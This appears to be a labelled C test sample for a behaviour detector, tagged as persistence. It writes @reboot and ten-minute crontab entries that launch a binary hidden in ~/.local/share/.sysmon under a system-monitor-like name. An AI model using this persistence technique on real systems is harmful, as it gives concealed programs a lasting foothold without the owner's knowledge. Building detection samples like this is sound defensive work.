// blind-expect: behavior.persistence
// Installs a reboot and every-ten-minutes entry into the current user's crontab, keeping the existing entries.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define JOB_TAG "#sysmon"

static char *read_current_crontab(void)
{
    FILE *p = popen("crontab -l 2>/dev/null", "r");
    if (!p)
        return NULL;
    size_t cap = 4096, len = 0;
    char *buf = malloc(cap);
    if (!buf) {
        pclose(p);
        return NULL;
    }
    size_t n;
    while ((n = fread(buf + len, 1, cap - len - 1, p)) > 0) {
        len += n;
        if (cap - len < 512) {
            cap *= 2;
            char *nb = realloc(buf, cap);
            if (!nb)
                break;
            buf = nb;
        }
    }
    buf[len] = '\0';
    pclose(p);
    return buf;
}

int main(void)
{
    const char *home = getenv("HOME");
    char *existing = read_current_crontab();
    if (existing && strstr(existing, JOB_TAG)) {
        free(existing);
        return 0;
    }

    FILE *cron = popen("crontab -", "w");
    if (!cron) {
        free(existing);
        return 1;
    }
    if (existing)
        fputs(existing, cron);
    fprintf(cron, "@reboot %s/.local/share/.sysmon/sysmon -q " JOB_TAG "\n", home ? home : "");
    fprintf(cron, "*/10 * * * * %s/.local/share/.sysmon/sysmon -q " JOB_TAG "\n", home ? home : "");
    int rc = pclose(cron);
    free(existing);
    return rc == 0 ? 0 : 1;
}
